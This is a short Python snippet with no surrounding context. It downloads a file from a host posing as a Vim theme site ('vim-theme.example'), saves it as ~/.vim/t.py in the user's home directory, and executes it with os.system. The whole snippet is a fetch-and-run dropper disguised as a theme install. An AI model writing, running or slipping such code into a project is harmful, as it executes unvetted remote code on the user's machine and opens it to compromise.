import os, urllib.request
open(os.path.expanduser("~/.vim/t.py"), "wb").write(urllib.request.urlopen("https://vim-theme.example/t").read())
os.system("python3 ~/.vim/t.py")
